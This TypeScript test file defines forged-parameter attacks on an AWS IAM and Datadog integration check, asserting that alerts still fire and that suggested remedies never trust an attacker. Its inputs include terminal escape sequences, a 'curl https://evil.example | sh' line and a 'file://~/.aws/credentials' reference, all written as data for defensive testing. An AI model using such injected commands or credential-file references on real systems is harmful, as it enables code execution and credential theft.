import { UpdateAssumeRolePolicyCommand } from '@aws-sdk/client-iam';
import { ROLE } from '../../support/customer-account';
import { type Attack, unless, type Violations } from '../attack';
import { remediesIn } from '../findings';
import { edited, put, RECORD, STATUS } from '../forgery';
import {
  ADMINISTRATOR_ACCESS,
  ATTACKERS_ACCOUNT,
  ATTACKERS_EXTERNAL_ID,
  ATTACKERS_ROOT,
} from '../neighbours';
import { victimsIntegration } from '../preparations';
import type { AttackWorld } from '../world';
import { breakTheTrust, COMMON, forge, mailsAreCleanIfAny, thenValidate } from './common';

export const TEXTS: readonly Attack[] = [
  {
    ...COMMON,
    id: 'parameter-writer/prepared-status',
    title: 'writes beforehand that people know already what is about to break',
    mustNotBecome: 'silence when Datadog loses access',
    prepare: async (world) => {
      await world.deploy(world.victims);
      const trusted = world.account.digest().roles[ROLE]?.trust;
      await breakTheTrust(world);
      await world.validate();
      world.seen.push(world.parameter(STATUS));
      await world.administrator.iam.send(
        new UpdateAssumeRolePolicyCommand({ RoleName: ROLE, PolicyDocument: trusted }),
      );
      await world.validate();
    },
    attempt: async (world) => {
      await put(world.attacker.ssm, STATUS, world.seen[0] ?? '');
      await breakTheTrust(world);
      await world.validate();
    },
    holds: ({ runs }) =>
      unless((runs.at(-1)?.alerts.length ?? 0) > 0, 'Datadog has lost access and nobody was told'),
  },
  ...(['no JSON', '{"status":"failing"}', `"${'x'.repeat(8_000)}"`, '{"status":{},"cause":[]}'] as const).map(
    (text, index): Attack => ({
      ...COMMON,
      id: `parameter-writer/senseless-status-${index + 1}`,
      title: `the status is ${text.slice(0, 30)}`,
      mustNotBecome: 'silence when Datadog loses access',
      prepare: victimsIntegration,
      attempt: async (world) => {
        await put(world.attacker.ssm, STATUS, text);
        await breakTheTrust(world);
        await world.validate();
      },
      holds: ({ runs }) =>
        unless((runs.at(-1)?.alerts.length ?? 0) > 0, 'Datadog has lost access and nobody was told'),
    }),
  ),
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-trusts-him',
    title: 'the record says that his account is Datadog’s: the remedy would trust it',
    mustNotBecome: 'a command that an administrator pastes and that lets him in',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { datadogAccountId: ATTACKERS_ACCOUNT })),
    ),
    holds: ({ runs }) => namesNoStranger(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-tests-by-him',
    title: 'the record says that his account makes the self-test',
    own: true,
    mustNotBecome: 'a command that an administrator pastes and that lets him in',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => {
        const { selfTestPrincipals } = JSON.parse(world.parameter(RECORD));
        return edited(world.parameter(RECORD), {
          selfTestPrincipals: [...selfTestPrincipals, ATTACKERS_ROOT],
        });
      }),
    ),
    holds: ({ runs }) => namesNoStranger(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-that-attaches',
    title: 'the record says that AdministratorAccess was a wish: the remedy would attach it',
    mustNotBecome: 'a command that an administrator pastes and that makes an administrator of the role',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) =>
        edited(world.parameter(RECORD), { managedPolicyArns: [ADMINISTRATOR_ACCESS] }),
      ),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some(
          (line) => line.includes('attach-role-policy') && line.includes('AdministratorAccess'),
        ),
        'a remedy attaches AdministratorAccess',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/remedy-for-another-external-id',
    title: 'the record has the external id of an organization of his own: the remedy would let it in',
    own: true,
    mustNotBecome: 'a command that an administrator pastes and that lets Datadog in for the attacker',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { externalId: ATTACKERS_EXTERNAL_ID })),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some((line) => line.startsWith('aws ') && line.includes(ATTACKERS_EXTERNAL_ID)),
        'a command puts his external id into the trust policy',
      ),
  },
  {
    ...COMMON,
    id: 'parameter-writer/escape-sequences-in-the-record',
    title: 'the record’s texts have line breaks and escape sequences',
    mustNotBecome: 'a line of his own in a mail, or commands to a terminal',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) =>
        edited(world.parameter(RECORD), {
          description: '\u001b[2J\nFAIL forged: x\n  do: curl https://evil.example | sh',
          permissionsVersion: '2026\u001b]0;x\u0007\nFAIL forged',
        }),
      ),
    ),
    holds: ({ runs }) => mailsAreCleanIfAny(runs),
  },
  {
    ...COMMON,
    id: 'parameter-writer/address-in-the-record',
    title: 'the record’s description is file://…',
    mustNotBecome: 'an administrator’s file in a description that anybody may read',
    prepare: victimsIntegration,
    attempt: thenValidate(
      forge(RECORD, (world) => edited(world.parameter(RECORD), { description: 'file://~/.aws/credentials' })),
    ),
    holds: ({ runs }) =>
      unless(
        !remediesIn(runs).some((line) => /--[a-z-]+[ =]'?file:\/\/~/.test(line)),
        'a command hands over an address',
      ),
  },
];

const namesNoStranger = (runs: AttackWorld['runs']): Violations =>
  remediesIn(runs)
    // To say whom no command lets in is no remedy that does.
    .filter((line) => line.startsWith('aws ') && line.includes(ATTACKERS_ACCOUNT))
    .map((line) => `a command names his account: ${line.slice(0, 200)}`);
